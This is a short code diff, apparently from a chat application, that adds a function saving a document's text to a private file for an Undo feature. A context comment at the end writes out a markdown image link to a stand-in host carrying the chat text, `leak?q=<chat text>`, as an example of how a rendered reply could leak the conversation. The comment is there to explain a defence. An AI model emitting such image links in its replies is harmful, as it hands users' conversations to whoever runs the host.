@@ -62,6 +62,21 @@ def image_file(image: hist.StoredImage, folder: Path) -> Path:
     return path
 
 
+def document_file(document: docs.Document, folder: Path) -> Path:
+    """The document's text as a file the input box can hold again (Undo), under a folder named
+    by its hash and `documents.file_name_for`'s safe name (a PDF comes back as its text)."""
+    data = document.text.encode("utf-8")
+    digest = hashlib.sha256(data).hexdigest()[:32]
+    path = private_dir(folder / digest) / docs.file_name_for(document)
+    if not path.exists():
+        tmp = path.with_name(path.name + ".part")
+        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)  # the owner's alone
+        with os.fdopen(fd, "wb") as handle:
+            handle.write(data)
+        tmp.replace(path)
+    return path
+
+
 # ------------------------------------------------------------------------ remote images
 # A reply (or a pasted text) must not make the browser fetch anything: `![x](http://host/leak?
 # q=<chat text>)` or `<img src=...>` would hand the chat to whoever runs `host` the moment it
